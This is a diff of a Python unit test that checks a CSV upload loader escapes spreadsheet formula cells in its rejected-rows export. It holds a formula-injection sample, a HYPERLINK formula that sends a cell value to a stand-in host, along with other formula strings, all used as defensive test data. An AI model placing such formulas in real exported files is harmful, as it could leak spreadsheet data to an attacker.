@@ -44,23 +44,12 @@ def test_problem_to_dict_has_the_contract_fields() -> None:
 
 def test_rejected_csv_escapes_formulas_but_keeps_values_readable() -> None:
     """Uploaded cells a spreadsheet would run get an apostrophe; numbers and words stay as they were."""
-    data = (
-        b'user,item,title,rating\n'
-        b'1,ok,fine,4\n'
-        b'=HYPERLINK("http://x.test/?"&A1;"click"),a,t,x\n'
-        b'2,+1+1,@SUM(A1),x\n'
-        b'3,b,"-2+3",-1\n'
-        b'4,c,t,inf\n'
-        b'5,d,t,NaN\n'
-        b'6,e,t,four\n'
-        b'7,f,t,5000000\n'
-        b'8,g,t,-0.5\n'
-    )
-    rep = load_interactions(data, name="evil.csv")
+    rep = load_interactions(FIXTURES / "formula_cells.csv")
     assert rep.rows_loaded == 1 and rep.rows_rejected == 8
     text = rep.rejected_csv().decode("utf-8-sig")
     back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
-    assert back["user"].tolist() == ["'=HYPERLINK(\"http://x.test/?\"&A1;\"click\")", "2", "3", "4", "5", "6", "7", "8"]
+    hyperlink = "'=HYPERLINK(\"http://x.test/?\"&A1;\"click\")"
+    assert back["user"].tolist() == [hyperlink, "2", "3", "4", "5", "6", "7", "8"]
     assert back["item"].tolist() == ["a", "'+1+1", "b", "c", "d", "e", "f", "g"]
     assert back["title"].tolist() == ["t", "'@SUM(A1)", "'-2+3", "t", "t", "t", "t", "t"]
     # the values the e2e download test looks for are still there, unescaped
